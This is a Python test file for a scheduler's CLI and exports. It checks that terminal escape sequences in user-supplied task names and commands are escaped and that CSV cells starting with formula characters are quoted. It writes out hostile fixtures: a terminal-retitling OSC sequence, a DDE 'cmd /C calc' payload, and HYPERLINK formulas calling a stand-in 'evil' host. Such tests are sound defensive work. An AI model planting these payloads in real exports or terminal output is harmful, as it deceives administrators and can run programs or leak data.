"""Output injection (issue 37, finding 9): user text (commands, task names, owners, failure
reasons, node names, daemon messages) reaches an admin's terminal with every control character
escaped (offcut.text_safety.terminal_safe, used by show / queue / watch / status / history /
explain), --json stays exact and valid, and every CSV Offcut writes quotes a text cell a
spreadsheet would run as a formula (offcut.text_safety.csv_writer) while numbers stay numbers.
Real daemons on unix sockets, the real CLI through typer's CliRunner."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from daemon_helpers import T0, make_spec

from offcut.client.cli import app
from offcut.client.task_cli import format_update, parse_format, render_format
from offcut.text_safety import csv_cell, csv_uncell, csv_writer, terminal_safe, write_csv_frame
from offcut.v1 import decision_pb2, tasks_pb2
from offcut.views import TaskView
from offcut.wire.tasks import task_from_pb, update_from_pb

runner = CliRunner()
ROOT = Path(__file__).resolve().parent.parent
#: what a terminal must never get from user text: C0/C1 controls, DEL, bidi overrides
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
#: the report's sequence: retitle the admin's window, then print a fake line
PAYLOAD = "\x1b]2;pwned\x07FAKE OUTPUT"


def run(*args: str):
    return runner.invoke(app, list(args), catch_exceptions=False)


# ------------------------------------------------------------------ the shared functions
@pytest.mark.parametrize("text,shown", [
    (PAYLOAD, "\\x1b]2;pwned\\x07FAKE OUTPUT"),
    ("a\u202eb\tc\r\nd\x9b", "a\\u202eb\\x09c\\x0d\\x0ad\\x9b"),
    ("plain text, ünïcödé, 日本", "plain text, ünïcödé, 日本"),
    ("\ud800", "\\ud800"),  # a lone surrogate (bytes that were not UTF-8)
])
def test_terminal_safe_escapes_every_control_character(text, shown):
    assert terminal_safe(text) == shown
    assert not RAW_CONTROL.search(terminal_safe(text))
    assert terminal_safe("a\nb\x1b", keep_newlines=True) == "a\nb\\x1b"


@pytest.mark.parametrize("cell,written", [
    ('=HYPERLINK("http://evil/?"&A1,"click")', '\'=HYPERLINK("http://evil/?"&A1,"click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("-2+3+cmd", "'-2+3+cmd"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"),
    # numbers stay numbers, also negative ones and numeric text
    (-1.5, -1.5), (-3, -3), ("-1.5", "-1.5"), ("-2.5e-07", "-2.5e-07"), ("-inf", "-inf"),
    ("+4", "+4"), ("resnet-18", "resnet-18"), ("'quoted'", "'quoted'"), ("", ""),
])
def test_csv_cell_quotes_formulas_only_and_round_trips(cell, written):
    assert csv_cell(cell) == written
    if isinstance(cell, str):
        assert csv_uncell(csv_cell(cell)) == cell


def test_a_frame_is_written_with_its_text_cells_quoted(tmp_path):
    import pandas as pd

    frame = pd.DataFrame({"error": ["=HYPERLINK(1)", "ok"], "n": [-1, 2]})
    write_csv_frame(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text().splitlines() == ["error,n", "'=HYPERLINK(1),-1",
                                                             "ok,2"]
    assert frame["error"][0] == "=HYPERLINK(1)"  # (the caller's frame is left as it was)


def test_every_csv_offcut_writes_goes_through_the_shared_writer():
    # one writer for all: no module writes CSV with csv.writer or DataFrame.to_csv unescaped
    offenders = []
    for folder in ("core", "client", "replay", "daemon", "slurm_plugin"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "text_safety.py":
                continue
            text = path.read_text()
            if re.search(r"\bcsv\.writer\(|\bcsv\.DictWriter\(", text):
                offenders.append(str(path.relative_to(ROOT)))
            if ".to_csv(" in text:  # (frames go through text_safety.write_csv_frame)
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


# ------------------------------------------------------------------ terminals
def hostile_task() -> TaskView:
    """A task as a hostile (or older) daemon could send it: control characters everywhere."""
    t = task_from_pb(tasks_pb2.Task(task_id="t000001", owner="mal\x1b[2Jlory",
                       state=tasks_pb2.TASK_STATE_FAILED, failure_reason="bad\x07" + PAYLOAD,
                       spec=make_spec(name="n\x1b]2;x\x07", command=["sh", PAYLOAD])))
    return t


def test_queue_and_watch_lines_are_escaped():
    task = hostile_task()
    text = render_format(parse_format("%i %j %u %R x\x1b[1m"), [task])
    assert not RAW_CONTROL.search(text), text
    assert "n\\x1b]2;x\\x07" in text and "mal\\x1b[2Jlory" in text and "x\\x1b[1m" in text
    upd = update_from_pb(tasks_pb2.PlacementUpdate(revision=3, cause="nodes\x1b[A", placements=[
        decision_pb2.Placement(task_id="t000001", task_name="n\x1b]2;x\x07", nodes=["n1"])]))
    line, = format_update(upd)
    assert not RAW_CONTROL.search(line) and "nodes\\x1b[A" in line and "n\\x1b]2;x\\x07" in line


def test_show_prints_a_command_with_an_escape_sequence_escaped(daemon):
    # the reported attack: a command holding an OSC sequence, shown raw to the admin
    srv, c = daemon
    r = run("submit", "-J", "innocent", "-N", "1-2", "--work", "1e6", "--parsable",
            "--address", srv.address, "--", "python", PAYLOAD, "--arg=\u202eevil")
    assert r.exit_code == 0, r.output
    tid = r.stdout.strip()
    shown = run("show", tid, "--address", srv.address)
    assert shown.exit_code == 0, shown.output
    assert not RAW_CONTROL.search(shown.stdout), shown.stdout
    command, = [ln for ln in shown.stdout.splitlines() if ln.startswith("Command")]
    assert command.split(None, 1)[1] == "python \\x1b]2;pwned\\x07FAKE OUTPUT --arg=\\u202eevil"
    # --json: exact (the command comes back as submitted) and valid, nothing raw on screen
    js = run("show", tid, "--json", "--address", srv.address)
    assert not RAW_CONTROL.search(js.stdout)
    assert json.loads(js.stdout)["spec"]["command"] == ["python", PAYLOAD, "--arg=\u202eevil"]
    listed = run("queue", "--json", "--address", srv.address)
    assert not RAW_CONTROL.search(listed.stdout)
    assert json.loads(listed.stdout)[0]["spec"]["command"][1] == PAYLOAD


def test_error_messages_quoting_user_text_are_escaped(daemon):
    srv, _ = daemon
    r = run("show", "t\x1b]2;pwned\x07", "--address", srv.address)
    assert r.exit_code != 0
    assert not RAW_CONTROL.search(r.stderr) and r.stderr.startswith("offcut: "), r.stderr


# ------------------------------------------------------------------ CSV files
FORMULAS = ['=HYPERLINK("http://evil/","x")', "+1+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3"]


@pytest.mark.replay_clock
def test_history_quotes_formula_task_names_and_keeps_numbers(daemons, tmp_path):
    srv, c = daemons.start()
    c.sync_nodes(T0, "s", 1, ["n1", "n2", "n3", "n4"])
    for i, name in enumerate(FORMULAS):
        c.submit(make_spec(name, max_nodes=1, ns=(0, 1), ps=(0.0, 10.0)),
                 submit_time=T0 + 10 + i, owner="mallory")
    c.report_nodes(T0 + 20, "w", 1, preempted=["n1"])
    out = tmp_path / "hist"
    r = run("history", "--out", str(out), "--address", srv.address)
    assert r.exit_code == 0, r.output
    with open(out / "placements.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    names = {row["task_name"] for row in rows}
    assert names == {"'" + n for n in FORMULAS}, names  # each one quoted, none bare
    # numbers stay numbers (a numeric cell with a leading '-' is never quoted)
    for row in rows:
        float(row["work_done_samples"]), float(row["total_work_samples"]), int(row["nodes"])
    with open(out / "tasks.csv", newline="") as fh:
        tasks = list(csv.DictReader(fh))
    assert {t["task_name"] for t in tasks} == {"'" + n for n in FORMULAS}
    with open(out / "steps.csv", newline="") as fh:
        for row in csv.DictReader(fh):
            assert not row["Thr"].startswith("'") and float(row["PreCost"]) >= 0


def test_the_replays_own_task_set_round_trips_quoted_names(tmp_path):
    from offcut.replay.bftrainer_data import TaskRecord, load_task_set, write_task_set
    import pandas as pd

    tasks = [TaskRecord(name=n, submit_time=pd.Timestamp("2026-11-27") + pd.Timedelta(seconds=i),
                        min_nodes=1, max_nodes=2, rescale_up_s=1.0, rescale_down_s=1.0,
                        total_work_samples=100.0, node_counts=[0, 1, 2],
                        throughputs=[0.0, 1.0, 2.0], objective_values=[0.0, 1.0, 2.0])
             for i, n in enumerate(FORMULAS + ["'=already", "plain"])]
    path = write_task_set(tasks, tmp_path / "set")
    with open(path, newline="") as fh:
        cells = [row[0] for row in csv.reader(fh)][1:]
    assert cells == ["'" + n for n in FORMULAS] + ["''=already", "plain"]
    assert [t.name for t in load_task_set(path)] == [t.name for t in tasks]


def test_csv_writer_neutralises_every_row(tmp_path):
    with open(tmp_path / "x.csv", "w", newline="") as fh:
        w = csv_writer(fh)
        w.writerow(["name", "value"])
        w.writerows([["=1+1", -2.0], ["ok", "-3"]])
    assert (tmp_path / "x.csv").read_text().splitlines() == [
        "name,value", "'=1+1,-2.0", "ok,-3"]
